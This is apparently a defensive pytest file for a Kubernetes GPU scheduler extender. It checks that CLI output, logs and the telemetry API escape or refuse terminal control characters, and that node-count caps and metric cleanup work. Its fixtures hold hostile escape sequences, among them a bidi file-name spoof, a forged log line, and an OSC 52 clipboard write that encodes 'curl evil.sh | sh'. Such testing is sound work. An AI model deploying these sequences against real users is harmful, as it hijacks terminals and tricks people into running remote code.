"""Text is text and every input is bounded: what an attacker sends is shown, logged and kept as
text, within limits."""

from __future__ import annotations

import json
import logging
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from prometheus_client import CollectorRegistry

from scheduler_extender import logs
from scheduler_extender.api.app import create_app
from scheduler_extender.cli import kubectl
from scheduler_extender.config import ExtenderSettings
from scheduler_extender.errors import PolicyError
from scheduler_extender.metrics import ExtenderMetrics
from scheduler_extender.policy.document import parse_policy
from scheduler_extender.state.cluster import SWEEP_EVERY_S, ClusterState
from scheduler_extender.telemetry import schema
from scheduler_extender.telemetry.clock import FakeClock
from scheduler_extender.telemetry.decode import report_from
from tests.builders import gpu, report
from tests.fakes.fake_kube import FakeKube

ROOT = Path(__file__).resolve().parents[2]

TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
C1_CSI = "\x9b2J"
BIDI = "\u202eexe.txt"
HOSTILE = TITLE + CLEAR + CLIPBOARD + C1_CSI + BIDI

RAW_CONTROL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)
"""Control characters, less the newline that ends a line of output."""


def _serve(answers: dict[str, tuple[int, bytes]]) -> tuple[ThreadingHTTPServer, str]:
    """An HTTP server on 127.0.0.1 answering GET PATH with ``answers[PATH]`` (status, body)."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, body = answers[self.path.lstrip("/")]
            self.send_response(status)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


@contextmanager
def _extender(answers: dict[str, tuple[int, bytes]]) -> Iterator[str]:
    server, url = _serve(answers)
    try:
        yield url
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def hostile_extender() -> Iterator[str]:
    """An extender (an older or a subverted one) whose debug view names GPUs with escapes."""
    gpu_row = {"index": 0, "model": "Tesla T4" + HOSTILE, "temperature_c": 50.0,
               "power_w": 30.0, "power_limit_w": 70.0, "free_blocks": 3,
               "allocated_blocks": 0, "health": "healthy" + CLEAR}  # fmt: skip
    nodes = {"nodes": [{"node": "edge-1" + TITLE, "gpus": [gpu_row]}]}
    loop = {"nodes": [{"node": "edge-1" + TITLE, "state": "cordoned" + BIDI}]}
    with _extender({"debug/nodes": (200, json.dumps(nodes).encode()),
                    "debug/remediation": (200, json.dumps(loop).encode())}) as url:  # fmt: skip
        yield url


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = kubectl.main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_kubectl_nodes_writes_escapes_in_gpu_and_node_names_visibly_never_raw(
    hostile_extender: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = str(tmp_path / "no-kubeconfig")
    code, out, _ = _run(capsys, "--kubeconfig", missing, "--extender-url", hostile_extender,
                        "nodes")  # fmt: skip
    assert code == 0
    assert RAW_CONTROL.search(out) is None
    assert len(out.splitlines()) == 2  # the header and the one GPU
    assert "Tesla T4\\x1b]0;owned\\x07\\x1b[2J" in out and "\\x1b]52;c;" in out
    assert "\\x9b2J" in out and "\\u202eexe.txt" in out and "edge-1\\x1b]0;owned\\x07" in out


def test_kubectl_nodes_as_json_keeps_the_values_with_every_control_character_escaped(
    hostile_extender: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = str(tmp_path / "no-kubeconfig")
    code, out, _ = _run(capsys, "--kubeconfig", missing, "--extender-url", hostile_extender,
                        "-o", "json", "nodes")  # fmt: skip
    assert code == 0
    assert RAW_CONTROL.search(out) is None
    (row,) = json.loads(out)
    assert row["model"] == "Tesla T4" + HOSTILE and row["node"] == "edge-1" + TITLE


@pytest.fixture
def kube() -> Iterator[FakeKube]:
    with FakeKube(bookmark_interval_s=0.2) as fake:
        yield fake


def test_kubectl_pods_writes_escapes_in_annotations_visibly_never_raw(
    kube: FakeKube, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kube.add_pod("trainer", node="edge-1", uid="uid-t", phase="Running",
                 limits={"edgegpu.io/gpu-mem-block": "2"},
                 annotations={"edgegpu.io/gpu-index": "0" + CLEAR,
                              "edgegpu.io/gpu-uuid": "GPU-0000" + CLIPBOARD,
                              "edgegpu.io/qos": "training" + C1_CSI + BIDI})  # fmt: skip
    kubeconfig = str(kube.kubeconfig(tmp_path / "kubeconfig"))
    code, out, _ = _run(capsys, "--kubeconfig", kubeconfig, "pods", "-A")
    assert code == 0
    assert RAW_CONTROL.search(out) is None
    assert len(out.splitlines()) == 2
    assert "GPU-0000\\x1b]52;c;" in out and "training\\x9b2J\\u202eexe.txt" in out

    code, out, _ = _run(capsys, "--kubeconfig", kubeconfig, "-o", "json", "pods", "-A")
    assert code == 0 and RAW_CONTROL.search(out) is None
    (row,) = json.loads(out)
    assert row["uuid"] == "GPU-0000" + CLIPBOARD and row["qos"] == "training" + C1_CSI + BIDI


def test_kubectl_errors_are_one_line_with_the_answer_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with _extender({"debug/nodes": (500, ("no\n" + CLIPBOARD).encode())}) as url:
        code, out, err = _run(capsys, "--kubeconfig", str(tmp_path / "none"), "--extender-url",
                              url, "nodes")  # fmt: skip
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and RAW_CONTROL.search(err) is None
    assert "no\\n\\x1b]52;c;" in err


def test_every_log_line_escapes_control_characters_in_arguments_and_exceptions(
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        logs.setup("info")
        log = logging.getLogger("scheduler_extender.api")
        forged = "p\n2026-12-05 00:00:00,000 INFO scheduler_extender: bound evil"
        log.warning("filter %s: %s", forged, HOSTILE)
        try:
            raise ValueError("bad node " + forged + CLIPBOARD)
        except ValueError:
            log.exception("applying a cluster change failed")
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    err = capsys.readouterr().err
    lines = err.splitlines()
    assert len(lines) == 2 and err.endswith("\n")
    assert RAW_CONTROL.search(err) is None
    assert "filter p\\n2026-12-05 00:00:00,000 INFO scheduler_extender: bound evil" in lines[0]
    assert "\\x9b2J\\u202eexe.txt" in lines[0]
    assert "Traceback (most recent call last):\\n" in lines[1]
    assert lines[1].endswith("ValueError: bad node p\\n2026-12-05 00:00:00,000 INFO "
                             "scheduler_extender: bound evil\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07")  # fmt: skip


@pytest.mark.parametrize(
    ("field", "place", "value"),
    [
        ("model", "gpus.0.model", "Tesla T4" + TITLE),
        ("model", "gpus.0.model", "Tesla T4" + C1_CSI),
        ("model", "gpus.0.model", "Tesla T4" + BIDI),
        ("vendor", "gpus.0.vendor", "nvidia\n"),
        ("uuid", "gpus.0.uuid", "GPU-0000" + CLIPBOARD),
        ("uuid", "gpus.0.uuid", "GPU-0000\x7f"),
    ],
)
async def test_a_gpu_name_with_a_control_character_is_refused_with_its_place(
    client: httpx.AsyncClient, field: str, place: str, value: str
) -> None:
    resp = await client.post("/v1/telemetry", json=report("edge-1", [gpu(0, **{field: value})]))
    assert resp.status_code == 422
    assert place in {p["loc"] for p in resp.json()["problems"]}
    assert (await client.get("/debug/nodes")).json()["nodes"] == []


async def test_a_label_with_a_control_character_is_refused_with_its_place(
    client: httpx.AsyncClient,
) -> None:
    for labels in ({"edgegpu.io/rack": "rack-a" + CLEAR}, {"edgegpu.io/rack\n": "rack-a"}):
        resp = await client.post("/v1/telemetry", json=report("edge-1", labels=labels))
        assert resp.status_code == 422
        assert any(p["loc"].startswith("labels.") for p in resp.json()["problems"])


@pytest.mark.parametrize(
    "model", ["NVIDIA GeForce RTX 4090", "AMD Radeon™ RX 7900 XTX", "昇腾 910B", "Intel® Arc™ A770"]
)
async def test_a_real_gpu_name_in_unicode_is_taken_by_the_agents_schema_and_the_extender(
    client: httpx.AsyncClient, model: str
) -> None:
    doc = report("edge-1", [gpu(0, model=model, vendor="nvidia")], labels={"site": "münchen"})
    sent = schema.TelemetryReport.model_validate(doc).to_json_bytes()  # as the agent builds it
    resp = await client.post("/v1/telemetry", content=sent,
                             headers={"content-type": "application/json"})  # fmt: skip
    assert resp.status_code == 200 and resp.json()["accepted"] is True
    node = (await client.get("/debug/nodes/edge-1")).json()
    assert node["gpus"][0]["model"] == model


@pytest.mark.parametrize("block_mib", [1, 64, 255, 0, -1, 2_097_152])
def test_a_policy_with_memory_blocks_under_256_mib_or_over_a_tib_is_refused(
    block_mib: int,
) -> None:
    with pytest.raises(PolicyError) as err:
        parse_policy({"spec": {"memory": {"blockMiB": block_mib}}})
    assert any("blockMiB" in line for line in err.value.errors)


def test_a_policy_with_256_mib_blocks_is_taken_and_the_crd_refuses_smaller_ones() -> None:
    assert parse_policy({"spec": {"memory": {"blockMiB": 256}}}).spec.memory.block_mib == 256
    crd = yaml.safe_load((ROOT / "manifests/crd/gpuschedulingpolicies.yaml").read_text())
    spec = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]
    block = spec["properties"]["memory"]["properties"]["blockMiB"]
    assert (block["minimum"], block["maximum"]) == (256, 1_048_576)


def _reason(resp: httpx.Response) -> str:
    doc = resp.json()
    return str(doc.get("error") or doc.get("reason") or "")


async def _app_client(state: ClusterState, **settings: Any) -> httpx.AsyncClient:
    app = create_app(ExtenderSettings(**settings), state=state)
    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50000))
    return httpx.AsyncClient(transport=transport, base_url="http://extender")


async def test_loopback_pushes_name_at_most_the_cap_of_nodes_and_a_new_one_over_it_is_refused(
    clock: FakeClock,
) -> None:
    state = ClusterState(clock, max_unlisted_nodes=3)
    async with await _app_client(state) as client:
        for i in range(3):
            resp = await client.post("/v1/telemetry", json=report(f"fake-{i}"))
            assert resp.status_code == 200 and resp.json()["accepted"] is True
        over = await client.post("/v1/telemetry", json=report("fake-3"))
        assert over.status_code == 429  # the agent backs off and tries again later
        assert "fake-3" in _reason(over) and "refused" in _reason(over)
        known = await client.post("/v1/telemetry", json=report("fake-0"))
        assert known.json()["accepted"] is True  # a node kept goes on reporting
        nodes = (await client.get("/debug/nodes")).json()["nodes"]
        assert [n["node"] for n in nodes] == ["fake-0", "fake-1", "fake-2"]
    assert state.refused_nodes == 1


async def test_a_static_token_for_any_node_names_at_most_the_cap_of_nodes(
    clock: FakeClock, tmp_path: Path
) -> None:
    tokens = tmp_path / "tokens"
    tokens.write_text("s3cret *\n")
    state = ClusterState(clock, max_unlisted_nodes=2)
    async with await _app_client(state, static_token_file=tokens) as client:
        headers = {"authorization": "Bearer s3cret"}
        answers = [
            await client.post("/v1/telemetry", json=report(f"fake-{i}"), headers=headers)
            for i in range(3)
        ]
    assert [a.status_code == 200 and a.json()["accepted"] for a in answers] == [True, True, False]
    assert state.store.nodes() == ["fake-0", "fake-1"]


def test_a_node_object_or_a_node_bound_credential_is_not_held_to_the_cap() -> None:
    state = ClusterState(FakeClock(), max_unlisted_nodes=1)
    assert state.ingest(report_from(report("fake-0"))).accepted
    refused = state.ingest(report_from(report("fake-1")))
    assert refused.refused and not refused.accepted and state.store.get("fake-1") is None
    state.set_node_labels("real-1", {})  # a Node in the cluster
    assert state.ingest(report_from(report("real-1"))).accepted
    assert state.ingest(report_from(report("edge-2")), bound_to_node=True).accepted


def test_a_thousand_invented_nodes_leave_no_metric_series_once_silent_for_long() -> None:
    clock = FakeClock()
    state = ClusterState(clock)
    registry = CollectorRegistry()
    ExtenderMetrics(registry, state)
    state.set_node_labels("real-1", {})
    for i in range(1000):
        assert state.ingest(report_from(report(f"fake-{i:04d}", interval_s=5.0))).accepted
    assert state.ingest(report_from(report("real-1", interval_s=5.0))).accepted

    def series() -> set[str]:
        return {
            s.labels["node"]
            for metric in registry.collect()
            if metric.name == "edgegpu_extender_telemetry_age_seconds"
            for s in metric.samples
        }

    assert len(series()) == 1001
    assert registry.get_sample_value("edgegpu_extender_unlisted_nodes") == 1000
    clock.advance(3599)  # silent, but not for long yet
    assert len(series()) == 1001
    clock.advance(SWEEP_EVERY_S)
    assert series() == {"real-1"}  # a Node in the cluster is kept, however silent
    assert state.store.nodes() == ["real-1"] and state.table.row("fake-0000") is None
    assert registry.get_sample_value("edgegpu_extender_silent_nodes_forgotten_total") == 1000
    assert registry.get_sample_value("edgegpu_extender_unlisted_nodes") == 0


def test_a_forgotten_node_frees_its_place_under_the_cap() -> None:
    clock = FakeClock()
    state = ClusterState(clock, max_unlisted_nodes=1)
    assert state.ingest(report_from(report("fake-0"))).accepted
    assert state.ingest(report_from(report("fake-1"))).refused
    clock.advance(3601)
    assert state.ingest(report_from(report("fake-1"))).accepted
    assert state.store.nodes() == ["fake-1"]
